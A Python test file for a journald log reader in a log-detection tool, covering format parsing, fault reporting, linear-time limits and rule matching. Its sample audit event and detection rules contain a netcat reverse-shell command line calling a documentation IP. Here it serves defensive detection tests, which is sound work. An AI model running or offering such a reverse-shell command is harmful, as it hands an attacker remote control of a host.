"""The journal's exports are lines of syslog that know more, whatever bytes programs logged."""

from __future__ import annotations

import json
import time
from dataclasses import replace
from typing import TYPE_CHECKING

import pytest
from hypothesis import given
from hypothesis import strategies as st

from haidang.events.readers import readers
from haidang.events.readers.journald import READER
from haidang.events.recognition import make_head, recognise
from haidang.limits import DEFAULT_LIMITS
from tests.events.readers.feeding import head, sample
from tests.events.readers.firing import fired, take_rules, write_rules
from tests.events.reading import read_bytes

if TYPE_CHECKING:
    from pathlib import Path

SMALL = replace(DEFAULT_LIMITS, batch_events=2)
NAMES = ("journal.json", "pretty.json", "sse.txt", "journal.export")


def test_reads_json_lines() -> None:
    file = read_bytes(READER, sample("journald", "journal.json"), limits=SMALL)
    assert file.report.complete
    assert file.records == [1, 2, 4, 3, 5]
    sshd, sudo, sysmon, app, audit = file.events
    assert sshd == {
        "outcome": "accepted",
        "method": "password",
        "user": "hoa.nt",
        "client_ip": "203.0.113.77",
        "__CURSOR": "s=7f;i=0",
        "__REALTIME_TIMESTAMP": "1794409140000000",
        "__MONOTONIC_TIMESTAMP": "91820",
        "_BOOT_ID": "6a1f",
        "_MACHINE_ID": "9c2e",
        "PRIORITY": "6",
        "SYSLOG_FACILITY": "10",
        "SYSLOG_IDENTIFIER": "sshd",
        "SYSLOG_PID": "4190",
        "_PID": "4190",
        "_TRANSPORT": "syslog",
        "_EXE": "/usr/sbin/sshd",
        "_UID": "0",
        "timestamp": "2026-11-11T14:59:00.000000Z",
        "hostname": "web01",
        "program": "sshd",
        "pid": "4190",
        "message": "Accepted password for hoa.nt from 203.0.113.77 port 51188 ssh2",
        "raw": "Accepted password for hoa.nt from 203.0.113.77 port 51188 ssh2",
        "facility": "authpriv",
        "severity": "info",
    }
    assert (sudo["USER"], sudo["COMMAND"]) == ("root", "/usr/bin/id")
    # Bytes are decoded, also those that are no text; a field without a value is absent.
    assert app["message"] == "Lỗi \x1b[31mđỏ\x1b[0m \ufffd"
    assert app["UNIT"] == ["a", "b"]
    assert "CODE_LINE" not in app
    assert (app["severity"], app["facility"]) == ("err", "daemon")
    assert sysmon["Image"] == "/usr/bin/curl"
    assert audit["type"] == ["SYSCALL", "EXECVE"]
    assert audit["CommandLine"] == "nc -e /bin/sh 203.0.113.77"
    assert (audit["node"], audit["timestamp"], audit["serial"]) == (
        "web01",
        "2026-11-11T14:59:04.123Z",
        "771",
    )


@pytest.mark.parametrize("block", [1, 13, 100_000])
def test_reads_the_export_format_like_json(block: int) -> None:
    file = read_bytes(READER, sample("journald", "journal.export"), block=block)
    assert file.report.complete
    assert file.events == read_bytes(READER, sample("journald", "journal.json")).events
    assert sorted(file.records) == [1, 2, 3, 4, 5]


def test_reads_pretty_json_and_server_sent_events() -> None:
    lines = read_bytes(READER, sample("journald", "journal.json")).events
    pretty = read_bytes(READER, sample("journald", "pretty.json"))
    assert pretty.report.complete
    assert [event["program"] for event in pretty.events] == ["sshd", "sudo", "mot-cua"]
    assert pretty.events[0] == lines[1]
    sse = read_bytes(READER, sample("journald", "sse.txt"))
    assert sse.report.complete
    assert sse.records == [1, 3]
    sequence = b"".join(b"\x1e" + line + b"\n" for line in sample("journald", "journal.json").splitlines())
    assert read_bytes(READER, sequence).events == lines


def test_what_is_no_entry_is_noted_and_the_rest_is_read() -> None:
    good = json.dumps({"__REALTIME_TIMESTAMP": "1794409140000000", "__CURSOR": "a", "MESSAGE": "m"}).encode()
    deep = b'{"a": ' + b'[{"b":' * 300 + b"1" + b"}]" * 300 + b"}"
    latin = good.replace(b'"m"', b'"\xe9"')
    file = read_bytes(READER, b"\n".join((good, b"oops", b'{"cut": ', latin, deep, b"[1]", good)))
    assert file.records == [1, 4, 7]
    assert file.events[1]["message"] == "\ufffd"
    assert file.problems == {
        "broken-line": ("line 2", 3),
        "invalid-utf8": ("line 4", 1),
        "too-deep": ("line 5", 1),
    }
    assert file.report.skipped == 4


def field(name: bytes, value: bytes, size: int | None = None) -> bytes:
    return name + b"\n" + (len(value) if size is None else size).to_bytes(8, "little") + value + b"\n"


def test_faults_of_the_export_format_are_noted_and_the_rest_is_read() -> None:
    limits = replace(DEFAULT_LIMITS, line_bytes=1000, columns=4)
    begin = b"__CURSOR=a\n__REALTIME_TIMESTAMP=1794409140000000\n"
    for block in (7, 100_000):
        data = (
            begin
            + field(b"MESSAGE", b"x" * 5000)
            + b"OTHER="
            + b"y" * 5000
            + b"\nMESSAGE=one\n\n"
            + begin
            + b"lower=1\nMESSAGE=two\nA=1\nB=2\nC=3\n\n"
            + begin
            + field(b"MESSAGE", b"three", size=100)
        )
        file = read_bytes(READER, data, limits=limits, block=block)
        assert [event["message"] for event in file.events] == ["one", "two", "three\n"]
        assert file.problems == {
            "oversized-line": ("record 1", 4),
            "broken-line": ("record 2", 1),
            "truncated": ("record 3", 1),
        }


def test_a_line_that_looks_like_the_mark_of_a_dropped_one_is_noted() -> None:
    file = read_bytes(READER, b"__CURSOR=a\n\x00\n(passed over)\nMESSAGE=m\n\n", block=3)
    assert [event["message"] for event in file.events] == ["m"]
    assert file.problems == {"broken-line": ("record 1", 2)}


def test_the_journals_own_fields_decide() -> None:
    for name in NAMES:
        assert READER.recognises(head(sample("journald", name))) >= 92, name
    for other in (
        b"",
        b'{"MESSAGE": "x", "time": 1}\n',
        b'{"a": 1}\n' * 5 + b'{"__REALTIME_TIMESTAMP": "1", "__CURSOR": "2"}\n',
        b"NAME=value\nOTHER=value\n",
        b'{\n  "a": {},\n  "__REALTIME_TIMESTAMP": "1", "__CURSOR": "2"}\n',
    ):
        assert READER.recognises(head(other)) == 0, other


@pytest.mark.parametrize("name", ["journal.json", "journal.export"])
def test_rules_fire(name: str, tmp_path: Path) -> None:
    rules = write_rules(
        tmp_path / "rules",
        sshd=("product: linux, service: sshd", "message|contains: Accepted password"),
        auth=("product: linux, service: auth", "hostname: web01\nUSER: root"),
        sysmon=("product: linux, category: process_creation", "Image|endswith: /curl"),
        auditd=("product: linux, category: process_creation", "CommandLine|contains: -e /bin/sh"),
        execve=("product: linux, service: auditd", "type: EXECVE\na1: -e"),
    )
    assert fired(tmp_path, sample("journald", name), rules) == {
        ("sshd", "1"),
        ("auth", "2"),
        ("sysmon", "4"),
        ("auditd", "5"),
        ("execve", "5"),
    }


def test_rules_of_sigmahq_fire(corpora: Path, tmp_path: Path) -> None:
    rules = take_rules(corpora, tmp_path / "rules", "proc_creation_lnx_netcat_reverse_shell.yml")
    titles = {title for title, _ in fired(tmp_path, sample("journald", "journal.json"), rules)}
    assert titles == {"Potential Netcat Reverse Shell Execution"}


@pytest.mark.parametrize("name", NAMES)
@given(st.data())
def test_whatever_is_done_to_it_it_is_survived(name: str, data: st.DataObject) -> None:
    whole = sample("journald", name)
    at = data.draw(st.integers(0, len(whole)))
    cut = data.draw(st.integers(0, 40))
    broken = whole[:at] + data.draw(st.binary(max_size=20)) + whole[at + cut :]
    file = read_bytes(READER, broken, limits=SMALL, block=data.draw(st.sampled_from([50, 9999])))
    # A cut may join two entries, or take one away.
    assert len(file.events) + sum(one.count for one in file.report.problems.values()) >= 1
    READER.recognises(head(broken))


@pytest.mark.parametrize(
    "data",
    [
        b"__CURSOR=a\n" * 200_000,
        b"A\n" * 500_000,
        b"A" * 20_000_000,
        b"__CURSOR=a\nA\n" + b"\xff" * 8 + b"x" * 5_000_000,
        b'{"a":' * 100_000,
        b"[" * 1_000_000,
    ],
)
def test_hostile_files_take_linear_time(data: bytes) -> None:
    began = time.process_time()
    file = read_bytes(READER, data)
    READER.recognises(head(data))
    assert file.events or file.report.problems
    assert time.process_time() - began < 5


@pytest.mark.parametrize("indent", [None, 2])
def test_an_array_holds_the_entries_of_json_lines(indent: int | None) -> None:
    lines = sample("journald", "journal.json")
    array = json.dumps([json.loads(line) for line in lines.splitlines()], indent=indent).encode()
    for data in (array, b"\xef\xbb\xbf" + array):
        assert recognise(make_head("log", data), readers()) is READER
        assert read_bytes(READER, data).events == read_bytes(READER, lines).events


def test_another_array_is_not_the_journals() -> None:
    assert READER.recognises(head(b'[{"__CURSOR":"a"}]')) == 0
    assert READER.recognises(head(b'[{"a":1},{"__CURSOR":"a","__REALTIME_TIMESTAMP":"1"}]')) == 0


VERBOSE = sample("journald", "verbose.txt")


def test_reads_what_journalctl_prints_with_all_fields() -> None:
    file = read_bytes(READER, VERBOSE, limits=SMALL)
    assert file.report.complete
    assert file.records == [2, 14, 26]
    sshd, app, audit = file.events
    assert (sshd["program"], sshd["user"], sshd["client_ip"]) == ("sshd", "hoa.nt", "203.0.113.77")
    assert (sshd["hostname"], sshd["_EXE"], sshd["pid"]) == ("hv-web01", "/usr/sbin/sshd", "4190")
    assert sshd["timestamp"] == "2026-11-11T14:59:00.000000Z"
    assert app["message"] == "Lỗi khi nhận hồ sơ\nMESSAGE=không phải trường\n  dòng thứ ba"
    assert (app["OBJECT_NAME"], app["COREDUMP"]) == (["a", "b"], "[12.4K blob data]")
    assert (audit["type"], audit["a0"], audit["node"]) == ("EXECVE", "nc", "hv-web01")


@pytest.mark.parametrize("end", ["\n", "\r\n"])
def test_what_it_prints_is_recognised(end: str) -> None:
    data = VERBOSE.decode().replace("\n", end).encode()
    assert recognise(make_head("log", data), readers()) is READER
    assert read_bytes(READER, data).events == read_bytes(READER, VERBOSE).events


def test_what_is_no_field_is_noted_and_skipped() -> None:
    file = read_bytes(READER, VERBOSE + b"oops\n\n    lower=x\n    _UID=7\n")
    assert file.problems == {"broken-line": ("line 33", 2)}
    assert file.report.skipped == 2
    assert len(file.events) == 3


def test_an_entry_that_is_too_long_keeps_what_fits() -> None:
    limits = replace(DEFAULT_LIMITS, line_bytes=200)
    data = (
        VERBOSE.splitlines()[1]
        + b"\n    A=1\n    MESSAGE="
        + b"x" * 150
        + b"\n    B=2\n            "
        + b"y" * 99
    )
    file = read_bytes(READER, data + b"\n", limits=limits)
    (event,) = file.events
    assert (event["A"], event["message"], event["B"]) == ("1", "x" * 150, "2")
    assert file.problems == {"oversized-line": ("line 5", 1)}


def test_many_lines_of_one_value_take_linear_time() -> None:
    data = VERBOSE.splitlines()[1] + b"\n    MESSAGE=a\n" + b"            b\n" * 200_000
    began = time.process_time()
    (event,) = read_bytes(READER, data).events
    assert len(event["message"]) == 400_001
    assert time.process_time() - began < 3
